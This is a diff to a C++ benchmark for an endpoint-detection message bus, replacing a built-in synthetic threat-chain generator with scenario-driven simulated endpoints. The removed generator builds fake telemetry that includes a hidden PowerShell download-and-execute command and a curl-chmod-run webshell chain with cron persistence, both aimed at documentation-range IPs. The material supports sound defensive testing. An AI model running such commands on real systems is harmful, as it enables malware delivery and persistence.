@@ -21,7 +21,6 @@
 #include <map>
 #include <memory>
 #include <optional>
-#include <random>
 #include <sstream>
 #include <stdexcept>
 #include <string>
@@ -35,6 +34,8 @@
 #include "bus/codec.hpp"
 #include "common/process.hpp"
 #include "common/time.hpp"
+#include "agent-sim/scenario.hpp"
+#include "agent-sim/sim_endpoint.hpp"
 #include "ctl/client.hpp"
 
 namespace fs = std::filesystem;
@@ -172,173 +173,6 @@ struct frame_pair {
   std::string body;
 };
 
-/// Builds realistic threat chains: eight events, parent links, one key event holding
-/// the detection, fresh hashes and pids per incident.
-class chain_maker {
-public:
-  explicit chain_maker(uint64_t seed) : rng_(seed) {}
-
-  bus::incident_report make(std::size_t index, const std::string& report_id) {
-    return index % 3 == 2 ? linux_webshell(report_id) : windows_phishing(report_id);
-  }
-
-private:
-  std::string hex(std::size_t chars) {
-    static constexpr char digits[] = "0123456789abcdef";
-    std::string s(chars, '0');
-    for (auto& c : s)
-      c = digits[rng_() & 15];
-    return s;
-  }
-  uint32_t pid() { return 1000 + static_cast<uint32_t>(rng_() % 60000); }
-  uint64_t size(uint64_t lo, uint64_t hi) { return lo + rng_() % (hi - lo); }
-
-  bus::activity_event event(const char* id, const char* type, const char* parent,
-                            int64_t t) {
-    bus::activity_event e;
-    e.id = id;
-    e.type = type;
-    e.parent_id = parent;
-    e.time = t;
-    return e;
-  }
-
-  bus::process_info proc(const std::string& image, const std::string& cmdline,
-                         const std::string& user, uint32_t parent_pid, int64_t t) {
-    return bus::process_info{pid(), t, image, hex(64), cmdline, user, parent_pid};
-  }
-
-  bus::incident_report windows_phishing(const std::string& report_id) {
-    auto user = "user" + std::to_string(rng_() % 500);
-    auto home = "C:\\Users\\" + user;
-    auto rand = hex(8);
-    auto c2 = "203.0.113." + std::to_string(1 + rng_() % 250);
-    auto t = now_us() - 60'000'000;
-    auto explorer = proc("C:\\Windows\\explorer.exe", "C:\\Windows\\explorer.exe", user,
-                         4, t - 3'600'000'000);
-    auto office = std::string{"C:\\Program Files\\Microsoft Office\\root\\Office16\\"};
-    auto outlook = proc(office + "OUTLOOK.EXE", "\"" + office + "OUTLOOK.EXE\"", user,
-                        explorer.pid, t);
-    auto doc = home +
-               "\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\" +
-               rand + "\\invoice.docm";
-    auto word =
-        proc(office + "WINWORD.EXE", "\"" + office + "WINWORD.EXE\" /n \"" + doc + "\"",
-             user, outlook.pid, t + 2'000'000);
-    auto payload = home + "\\AppData\\Local\\Temp\\payload.exe";
-    auto script = "(New-Object Net.WebClient).DownloadFile('http://" + c2 + "/i/" + rand +
-                  "', $env:TEMP + '\\payload.exe'); Start-Process $env:TEMP\\payload.exe";
-    auto ps = proc("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
-                   "powershell.exe -NoP -W Hidden -ep Bypass -c \"" + script + "\"", user,
-                   word.pid, t + 4'000'000);
-    auto loader = proc(payload, "\"" + payload + "\" /s", user, ps.pid, t + 6'000'000);
-
-    bus::incident_report r;
-    r.report_id = report_id;
-    r.det = {"HEUR:Trojan-Downloader.MSOffice.SLoad.gen", "high",
-             "EPP behavior detection"};
-    r.key_event_id = "e7";
-    auto e = event("e1", "process_started", "", t);
-    e.file = {outlook.image, outlook.sha256, size(20'000'000, 40'000'000)};
-    e.process = outlook;
-    r.events.push_back(e);
-    e = event("e2", "file_created", "e1", t + 1'000'000);
-    e.file = {doc, hex(64), size(38'000, 120'000)};
-    e.process = outlook;
-    r.events.push_back(e);
-    e = event("e3", "process_started", "e1", t + 2'000'000);
-    e.file = {word.image, word.sha256, size(1'500'000, 2'500'000)};
-    e.process = word;
-    r.events.push_back(e);
-    e = event("e4", "process_started", "e3", t + 4'000'000);
-    e.file = {ps.image, ps.sha256, 452'608};
-    e.process = ps;
-    r.events.push_back(e);
-    e = event("e5", "network_connection", "e4", t + 4'500'000);
-    e.process = ps;
-    e.detail =
-        "tcp 10.20.0.7:" + std::to_string(49152 + rng_() % 16000) + " -> " + c2 + ":80";
-    r.events.push_back(e);
-    e = event("e6", "file_created", "e4", t + 5'000'000);
-    e.file = {payload, loader.sha256, size(180'000, 420'000)};
-    e.process = ps;
-    r.events.push_back(e);
-    e = event("e7", "process_started", "e4", t + 6'000'000);
-    e.file = {payload, loader.sha256, r.events.back().file.size};
-    e.process = loader;
-    r.events.push_back(e);
-    e = event("e8", "network_connection", "e7", t + 7'000'000);
-    e.process = loader;
-    e.detail =
-        "tcp 10.20.0.7:" + std::to_string(49152 + rng_() % 16000) + " -> " + c2 + ":443";
-    r.events.push_back(e);
-    return r;
-  }
-
-  bus::incident_report linux_webshell(const std::string& report_id) {
-    auto rand = hex(8);
-    auto c2 = "198.51.100." + std::to_string(1 + rng_() % 250);
-    auto t = now_us() - 60'000'000;
-    auto fpm = proc("/usr/sbin/php-fpm8.2", "php-fpm: pool www", "www-data", 1,
-                    t - 86'400'000'000);
-    auto shell_php = "/var/www/html/uploads/" + rand + ".php";
-    auto sh = proc("/bin/sh",
-                   "sh -c curl -s http://" + c2 + "/k -o /tmp/.k" + rand +
-                       " && chmod +x /tmp/.k" + rand + " && /tmp/.k" + rand,
-                   "www-data", fpm.pid, t + 2'000'000);
-    auto curl = proc("/usr/bin/curl", "curl -s http://" + c2 + "/k -o /tmp/.k" + rand,
-                     "www-data", sh.pid, t + 2'100'000);
-    auto implant_path = "/tmp/.k" + rand;
-    auto implant = proc(implant_path, implant_path, "www-data", sh.pid, t + 3'000'000);
-
-    bus::incident_report r;
-    r.report_id = report_id;
-    r.det = {"HEUR:Backdoor.Linux.Agent.gen", "critical", "EPP behavior detection"};
-    r.key_event_id = "e6";
-    auto e = event("e1", "file_created", "", t);
-    e.file = {shell_php, hex(64), size(1'000, 9'000)};
-    e.process = fpm;
-    r.events.push_back(e);
-    e = event("e2", "process_started", "e1", t + 2'000'000);
-    e.file = {sh.image, sh.sha256, 125'560};
-    e.process = sh;
-    r.events.push_back(e);
-    e = event("e3", "process_started", "e2", t + 2'100'000);
-    e.file = {curl.image, curl.sha256, 260'328};
-    e.process = curl;
-    r.events.push_back(e);
-    e = event("e4", "network_connection", "e3", t + 2'200'000);
-    e.process = curl;
-    e.detail =
-        "tcp 10.20.1.9:" + std::to_string(32768 + rng_() % 28000) + " -> " + c2 + ":80";
-    r.events.push_back(e);
-    e = event("e5", "file_created", "e3", t + 2'400'000);
-    e.file = {implant_path, implant.sha256, size(900'000, 2'400'000)};
-    e.process = curl;
-    r.events.push_back(e);
-    e = event("e6", "process_started", "e2", t + 3'000'000);
-    e.file = {implant_path, implant.sha256, r.events.back().file.size};
-    e.process = implant;
-    r.events.push_back(e);
-    e = event("e7", "network_connection", "e6", t + 3'500'000);
-    e.process = implant;
-    e.detail =
-        "tcp 10.20.1.9:" + std::to_string(32768 + rng_() % 28000) + " -> " + c2 + ":3333";
-    r.events.push_back(e);
-    e = event("e8", "file_modified", "e6", t + 4'000'000);
-    e.file = {"/var/spool/cron/crontabs/www-data", hex(64), size(100, 900)};
-    e.process = implant;
-    e.detail = "@reboot " + implant_path;
-    r.events.push_back(e);
-    return r;
-  }
-
-  std::mt19937_64 rng_;
-};
-
-// -- the bench's own bus peers --------------------------------------------------------
-
-/// N DEALER sockets speaking for devices `bench-00000`, ... from one thread.
 class fleet {
 public:
   explicit fleet(std::size_t n) : ctx_(1), seq_(n, 0) {
@@ -942,17 +776,28 @@ std::pair<std::size_t, std::vector<std::string>> log_problems(const std::string&
   return {n, examples};
 }
 
-/// Pre-encodes `m` incident reports spread over the fleet's devices.
-std::vector<frame_pair> make_frames(fleet& devices, std::size_t m, results& res) {
+/// Pre-encodes `m` incident reports spread over the fleet's devices. The chains come
+/// from the same scenario files and instantiation as parry-agent's, one simulated
+/// endpoint per bench device, so the bench measures what agents send.
+std::vector<frame_pair> make_frames(fleet& devices, std::size_t m,
+                                    const std::string& scenario_dir, results& res) {
+  auto scenarios = parry::sim::load_scenarios(scenario_dir);
+  parry::sim::endpoint_config cfg;
+  cfg.id_prefix = "bench";
+  // Report ids carry the start time, so reruns against a kept store stay distinct.
+  cfg.run_tag = std::to_string(now_us() / 1'000'000);
+  auto now = now_us();
+  std::vector<parry::sim::sim_endpoint> sims;
+  sims.reserve(devices.size());
+  for (std::size_t i = 0; i < devices.size(); ++i)
+    sims.emplace_back(i, cfg, scenarios, now);
   std::vector<frame_pair> frames;
   frames.reserve(m);
-  chain_maker chains{1};
-  // Report ids carry the start time, so reruns against a kept store stay distinct.
-  auto run_tag = std::to_string(now_us() / 1'000'000);
   for (std::size_t k = 0; k < m; ++k) {
-    auto rep = chains.make(k, "bench-" + run_tag + "-" + std::to_string(k));
+    auto i = k % devices.size();
+    auto rep = sims[i].next_incident(now);
     res.events_total += rep.events.size();
-    frames.push_back(devices.frame(k % devices.size(), bus::type::incident, rep));
+    frames.push_back(devices.frame(i, bus::type::incident, rep));
   }
   res.reports = m;
   res.events_per_incident =
@@ -1238,7 +1083,7 @@ int run(const options& opt) {
 
   // Frames first, so that neither clock includes encoding.
   fleet devices{n};
-  auto frames = make_frames(devices, opt.incidents, res);
+  auto frames = make_frames(devices, opt.incidents, opt.scenarios, res);
   std::size_t bytes = 0;
   for (auto& f : frames)
     bytes += f.header.size() + f.body.size();
